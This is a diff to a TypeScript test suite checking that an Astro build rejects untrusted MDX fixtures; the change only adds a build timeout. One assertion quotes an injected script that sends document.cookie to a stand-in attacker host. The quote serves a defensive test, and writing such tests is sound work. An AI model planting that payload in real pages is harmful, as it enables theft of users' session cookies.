@@ -9,6 +9,8 @@ import { commandEnv, PROJECT, tempProject } from './support/temp-project.ts';
 
 const FIXTURES = join(PROJECT, 'test/fixtures/untrusted');
 const SECRET = `build-secret-${process.pid}-${Date.now()}`;
+/** A build of a small copy takes seconds, but the machine may be busy: allow minutes. */
+const BUILD_TIMEOUT = 180_000;
 const MALICIOUS = readdirSync(FIXTURES).filter((n) => n.endsWith('.mdx'));
 
 function papers(names: readonly string[], pwned: string): Record<string, string> {
@@ -55,7 +57,7 @@ describe('astro build refuses untrusted MDX', () => {
     expect(readdirSync(pwned)).toEqual([]);
     expect(output).not.toContain(SECRET);
     expect(existsSync(join(root, 'dist'))).toBe(false);
-  });
+  }, BUILD_TIMEOUT);
 
   it('stops `npm run build` (ingest, then astro build) the same way', () => {
     const pwned = mkdtempSync(join(tmpdir(), 'atlas-pwned-'));
@@ -70,7 +72,7 @@ describe('astro build refuses untrusted MDX', () => {
     expect(readdirSync(pwned)).toEqual([]);
     expect(output).not.toContain(SECRET);
     expect(existsSync(join(root, 'dist'))).toBe(false);
-  });
+  }, BUILD_TIMEOUT);
 
   it('is what stops them: the same fixtures in a copy without the guard write files and leak the secret', () => {
     const pwned = mkdtempSync(join(tmpdir(), 'atlas-pwned-'));
@@ -88,7 +90,7 @@ describe('astro build refuses untrusted MDX', () => {
     expect(readdirSync(pwned).sort()).toEqual(['esm-export', 'expression']);
     expect(filesContaining(join(root, 'dist'), SECRET)).toEqual(['papers/expression-reads-env/index.html']);
     expect(readFileSync(join(root, 'dist/papers/script-tag/index.html'), 'utf8')).toContain("<script>fetch('https://attacker.invalid/?c=' + document.cookie)</script>");
-  });
+  }, BUILD_TIMEOUT);
 });
 
 describe('the dev-server guard', () => {
